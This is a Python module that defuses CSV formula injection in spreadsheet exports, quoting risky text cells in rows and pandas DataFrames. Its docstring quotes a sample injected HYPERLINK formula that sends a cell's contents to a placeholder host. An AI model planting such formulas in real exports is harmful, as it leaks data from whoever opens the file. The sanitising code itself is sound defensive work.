"""Cells a spreadsheet would run, made inert: the one home of every CSV file's text cells.

A text cell starting with "=", "+", "-", "@", a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets: an annotator's note `=HYPERLINK("http://x?"&A1,"open")` in a log export
ran as one on the admin's machine (issue 32, hole 5). As OWASP's CSV injection page recommends, such a
cell gets a leading single quote, which the spreadsheet shows as text. Numbers are left alone, and so
is text that is a plain number ("-1", "-0.5", "+3e-2": a spreadsheet reads it as that number, never as
a formula), so negative labels and coefficients keep their values. JSON lines and Parquet keep the
exact text; only CSV writers call this.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

import pandas as pd

__all__ = ["FORMULA_START", "spreadsheet_cell", "spreadsheet_frame", "spreadsheet_row"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def spreadsheet_cell(value: Any) -> Any:
    """The value as a CSV cell no spreadsheet runs: text that would start a formula gets a leading
    quote; numbers, plain-number text and everything else come back unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def spreadsheet_row(row: Iterable[Any] | dict[str, Any]) -> Any:
    """A CSV row (a list for csv.writer, a dict for csv.DictWriter) with every cell made inert."""
    if isinstance(row, dict):
        return {key: spreadsheet_cell(value) for key, value in row.items()}
    return [spreadsheet_cell(value) for value in row]


def spreadsheet_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of the frame for DataFrame.to_csv: headers and text columns made inert, numeric columns
    (int, float, bool, dates) untouched."""
    out = frame.rename(columns=lambda name: spreadsheet_cell(name) if isinstance(name, str) else name)
    for position, dtype in enumerate(out.dtypes):
        if pd.api.types.is_object_dtype(dtype) or isinstance(dtype, pd.StringDtype):
            out.iloc[:, position] = out.iloc[:, position].map(spreadsheet_cell)
    return out
